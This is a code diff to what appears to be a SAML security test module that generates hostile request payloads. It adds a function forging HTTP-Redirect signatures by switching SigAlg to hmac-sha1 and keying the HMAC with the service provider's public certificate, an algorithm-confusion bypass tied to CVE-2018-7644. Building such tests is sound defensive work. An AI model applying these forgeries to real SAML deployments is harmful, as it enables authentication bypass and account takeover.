@@ -1,5 +1,7 @@
 import { createHmac } from 'node:crypto';
 import { deflateRawSync } from 'node:zlib';
+import { signedOctets, type RedirectParams } from './bindings';
+import { ALG } from '../xml';
 
 /**
  * Hostile request payloads (attack catalogue §2–§3): each takes the known-good request XML (signed or
@@ -58,7 +60,7 @@ export const hostileSignature = {
   hmacWithCert: (signed: string, certPem: string) => {
     const swapped = signed.replace(
       /<ds:SignatureMethod Algorithm="[^"]*"\/>/,
-      '<ds:SignatureMethod Algorithm="http://www.w3.org/2000/09/xmldsig#hmac-sha1"/>',
+      `<ds:SignatureMethod Algorithm="${ALG.hmacSha1}"/>`,
     );
     const si = /<ds:SignedInfo>[\s\S]*?<\/ds:SignedInfo>/
       .exec(swapped)![0]
@@ -95,3 +97,10 @@ export const hostileEncoding = {
       Buffer.from('</saml:Issuer>' + xml.split('</saml:Issuer>')[1]),
     ]).toString('base64'),
 };
+
+/** HTTP-Redirect: SigAlg hmac-sha1 with the HMAC keyed by the SP's public certificate (CVE-2018-7644 class). */
+export function redirectHmacWithCert(p: RedirectParams, certPem: string): RedirectParams {
+  const withAlg = { ...p, SigAlg: encodeURIComponent(ALG.hmacSha1) };
+  const mac = createHmac('sha1', Buffer.from(certPem)).update(signedOctets(withAlg)).digest('base64');
+  return { ...withAlg, Signature: encodeURIComponent(mac) };
+}
